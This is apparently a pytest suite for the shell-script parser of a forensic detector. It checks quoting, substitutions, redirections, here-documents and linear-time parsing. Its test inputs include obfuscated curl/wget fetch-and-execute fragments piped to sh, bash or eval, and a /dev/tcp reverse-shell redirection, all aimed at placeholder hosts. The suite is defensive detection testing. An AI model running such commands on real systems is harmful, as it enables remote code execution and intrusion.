"""The shell reader: pipelines, quotes, substitutions, here-documents, and no text that breaks it."""

from __future__ import annotations

import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from forensics.detectors._shell import SOURCE_LENGTH, Script, parse


def words(script: Script) -> list[list[list[str]]]:
    """Pipelines of commands of words."""
    return [
        [[word.text for word in command.words] for command in pipeline.commands]
        for pipeline in script.pipelines
    ]


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        ("a b | c", [[["a", "b"], ["c"]]]),
        ("a|b||c&&d;e&f", [[["a"], ["b"]], [["c"]], [["d"]], [["e"]], [["f"]]]),
        ("a |& b", [[["a"], ["b"]]]),
        ("a \\\n  b", [[["a", "b"]]]),
        ("a # no | c\nb", [[["a"]], [["b"]]]),
        ("a#b", [[["a#b"]]]),
        ("c'u'r\"l\" ba\\sh", [[["curl", "bash"]]]),
        (r"""a "b \" \$c \n" 'd \' e""", [[["a", 'b " $c \\n', "d \\", "e"]]]),
        (r"$'\x63url' $'a\'b'", [[["curl", "a'b"]]]),
        ("if a; then b; else c; fi", [[["a"]], [["b"]], [["c"]]]),
        ("! a", [[["a"]]]),
        ("a; }", [[["a"]]]),
        ("case $1 in x) a | b;; esac", [[["case", "$1", "in", "x"]], [["a"], ["b"]]]),
        ("${a} ${b:-c d}", [[["${a}", "${b:-c d}"]]]),
        ("", []),
        ("  \n ; \n", []),
    ],
)
def test_pipelines_and_words(source: str, expected: list[list[list[str]]]) -> None:
    assert words(parse(source)) == expected


def test_words_know_where_they_stand() -> None:
    source = "x=1 'cu'rl  http://h | sh"
    command = parse(source).pipelines[0].commands[0]
    assert [source[word.begin : word.end] for word in command.words] == ["x=1", "'cu'rl", "http://h"]
    assert source[command.begin : command.end].rstrip() == "x=1 'cu'rl  http://h"


def test_substitutions_stay_in_the_text_and_are_parsed() -> None:
    word = parse('sh -c "$(curl x | tr a b)"').pipelines[0].commands[0].words[2]
    assert word.text == "$(curl x | tr a b)"
    assert words(word.inner[0]) == [[["curl", "x"], ["tr", "a", "b"]]]
    backquoted = parse("eval `wget -qO- x`").pipelines[0].commands[0].words[1]
    assert words(backquoted.inner[0]) == [[["wget", "-qO-", "x"]]]
    process = parse("bash <(curl x)").pipelines[0].commands[0].words[1]
    assert process.process
    assert words(process.inner[0]) == [[["curl", "x"]]]


def test_single_quotes_hide_substitutions() -> None:
    assert parse("echo '$(curl x)'").pipelines[0].commands[0].words[1].inner == ()


def test_groups_and_functions() -> None:
    group, shell = parse("(a; b) | { c; }").pipelines[0].commands
    assert group.group is not None
    assert shell.group is not None
    assert words(group.group) == [[["a"]], [["b"]]]
    assert words(shell.group) == [[["c"]]]
    function = parse("f() { a | b; }").pipelines[0].commands[0]
    assert function.group is not None
    assert words(function.group) == [[["a"], ["b"]]]


def test_redirections() -> None:
    command = parse("a >& /dev/tcp/h/1 0>&1 2>/dev/null <<<x &>>log").pipelines[0].commands[0]
    assert [(one.operator, one.target.text) for one in command.redirects] == [
        (">&", "/dev/tcp/h/1"),
        (">&", "1"),
        (">", "/dev/null"),
        ("<<<", "x"),
        ("&>>", "log"),
    ]


@pytest.mark.parametrize(
    ("source", "body", "after"),
    [
        ("cat <<EOF | sh\na\nb\nEOF\nc", "a\nb\n", ["c"]),
        ("cat <<'E' | sh\na\nE\nc", "a\n", ["c"]),
        ("cat <<-E | sh\n\ta\n\tE\nc", "\ta\n", ["c"]),
        ("cat <<EOF | sh\na\nb", "a\nb", []),
    ],
)
def test_here_documents_are_bodies_and_not_commands(source: str, body: str, after: list[str]) -> None:
    script = parse(source)
    assert script.pipelines[0].commands[0].redirects[0].body == body
    assert [pipeline.commands[0].words[0].text for pipeline in script.pipelines[1:]] == after


def test_background() -> None:
    assert [pipeline.background for pipeline in parse("a & b; c && d &").pipelines] == [
        True,
        False,
        False,
        True,
    ]


@given(st.text(alphabet="ab $(){}`'\"\\|&;<>\n#-!=\t0", max_size=200))
def test_any_text_gives_a_reading_within_the_text(source: str) -> None:
    def check(script: Script, length: int) -> None:
        for pipeline in script.pipelines:
            assert pipeline.commands
            for command in pipeline.commands:
                assert 0 <= command.begin <= command.end <= length
                if command.group:
                    check(command.group, length)

    check(parse(source), len(source))


@pytest.mark.parametrize(
    "unit", ["(", "$(", "`", "<<A\n", "'", "\\", "{ ", "<(", "a()", '"$(', "<", "${", "a;", "$'"]
)
def test_hostile_text_is_read_in_linear_time(unit: str) -> None:
    begun = time.process_time()
    parse(unit * SOURCE_LENGTH)
    assert time.process_time() - begun < 10
